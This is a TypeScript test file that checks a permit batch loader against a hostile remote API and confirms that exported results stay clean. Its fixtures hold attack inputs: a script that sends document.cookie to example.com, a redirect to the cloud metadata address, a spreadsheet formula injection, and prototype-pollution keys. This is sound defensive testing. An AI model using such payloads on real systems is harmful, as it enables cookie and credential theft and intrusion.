import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { writeResults } from '../../src/batch/exports/results.ts';
import { wordsIn } from '../../src/words/words.ts';
import { makeBatch } from '../support/made-batch.ts';
import { outcomesOf, push, testToken } from '../support/push-batch.ts';
import { accept, type GotRequest, scriptedController } from '../support/scripted-controller.ts';

const folder = mkdtempSync(join(tmpdir(), 'permit-loader-hostile-controller-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

type Script = (request: GotRequest, response: ServerResponse) => void;

const html =
  (body: string): Script =>
  (_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(body);
  };
const json =
  (status: number, body: unknown, headers = {}): Script =>
  (_, response) => {
    response.writeHead(status, { 'content-type': 'application/json', ...headers });
    response.end(typeof body === 'string' ? body : JSON.stringify(body));
  };
const success = (request: GotRequest) => ({ status: 'success', reference_id: request.referenceId });

/** What a controller that means harm, or is broken, could answer to a row; what the row must then be. */
const answers: readonly (readonly [string, Script, 'unknown' | 'rejected' | 'accepted'])[] = [
  ['eight megabytes', (_, response) => response.end('x'.repeat(8 << 20)), 'unknown'],
  [
    'a success within eight megabytes',
    (request, response) => response.end(JSON.stringify({ ...success(request), more: 'x'.repeat(8 << 20) })),
    'unknown',
  ],
  [
    '200 KB of headers',
    (request, response) => {
      for (let n = 0; n < 200; n++) response.setHeader(`x-${n}`, 'y'.repeat(1000));
      accept(request, response);
    },
    'unknown',
  ],
  ['a page', html('<!doctype html><title>Sign in</title><form action="http://example.com">'), 'unknown'],
  ['a script', html('<script>fetch("http://example.com/" + document.cookie)</script>'), 'unknown'],
  ['nesting twenty thousand deep', json(200, '['.repeat(20_000) + ']'.repeat(20_000)), 'unknown'],
  [
    'keys of programs',
    json(200, '{"__proto__":{"status":"success"},"constructor":{"prototype":{"status":"success"}}}'),
    'unknown',
  ],
  ['a success for another permit', json(200, { status: 'success', reference_id: 'another' }), 'unknown'],
  ['a success that is a list', json(200, [{ status: 'success' }]), 'unknown'],
  [
    'a success that says so otherwise',
    (request, response) => json(200, { ...success(request), status: true })(request, response),
    'unknown',
  ],
  [
    'a success with an error',
    (request, response) => json(200, { ...success(request), ErrorCode: 9009 })(request, response),
    'rejected',
  ],
  [
    'a formula and control characters as message',
    json(200, {
      ErrorCode: 9009,
      ErrorMessage: '=HYPERLINK("http://example.com")\r\n\u001b[2J\u202eevil\u0000',
    }),
    'rejected',
  ],
  [
    'the token as message',
    json(200, {
      ErrorCode: 9009,
      ErrorMessage: `your token is ${testToken}, encoded ${encodeURIComponent(testToken)}`,
    }),
    'rejected',
  ],
  ['a message of 50 KB', json(200, { ErrorCode: 9009, ErrorMessage: 'm'.repeat(50_000) }), 'rejected'],
  [
    'an internal ID that is a formula',
    (request, response) => json(200, { ...success(request), InternalReferenceID: '=1+1' })(request, response),
    'accepted',
  ],
  ['a redirect elsewhere', json(302, '', { location: 'http://169.254.169.254/latest/' }), 'unknown'],
  ['compressed nonsense', json(200, 'not gzip', { 'content-encoding': 'gzip' }), 'unknown'],
  [
    'cookies and a refresh',
    json(200, '{}', { 'set-cookie': 'a=b', refresh: '0; url=http://example.com' }),
    'unknown',
  ],
];

describe('a controller that means harm', () => {
  it.each(answers)(
    'answers %s: the row is what is known of it, the others go on, the results are clean',
    async (name, script, outcome) => {
      const document = makeBatch(folder, { name: name.replaceAll(' ', '-'), rows: 30 });
      const controller = await scriptedController((request, response) =>
        request.referenceId === 'ref-0000017' ? script(request, response) : accept(request, response),
      );
      try {
        const end = await push(document, controller.url, { concurrency: 2 });
        const [odd] = outcomesOf(document).filter(({ row }) => row === 19);
        // A redirect means that this is not the API at all, which stops the run: nothing else may be claimed then.
        if (end.end === 'finished')
          expect({ name, accepted: end.tally.accepted }).toEqual({
            name,
            accepted: outcome === 'accepted' ? 30 : 29,
          });
        expect({ name, status: odd?.status }).toEqual({
          name,
          status: outcome,
        });
        const { accepted, rejected, unknown, unsent, skipped } = end.tally;
        expect(accepted + rejected + unknown + unsent + skipped).toBe(30);
        const results = await writeResults(document, wordsIn('en'));
        if (!results.ok) throw new Error(results.failure.code);
        const text = readFileSync(results.value, 'utf8');
        expect(text).not.toContain(testToken);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be there.
        expect(text.replaceAll('\r\n', '')).not.toMatch(/[\u0000-\u001f\u202e]/);
        expect(text).not.toMatch(/(^|,)"?=/m);
        expect(Math.max(...text.split('\r\n').map((line) => line.length))).toBeLessThan(2_000);
        for (const line of text.split('\r\n').slice(1, -1)) expect(line).toMatch(/^ref-\d{7},PL8RDR,a note,/);
      } finally {
        await controller.close();
        document.close();
      }
    },
    60_000,
  );
});
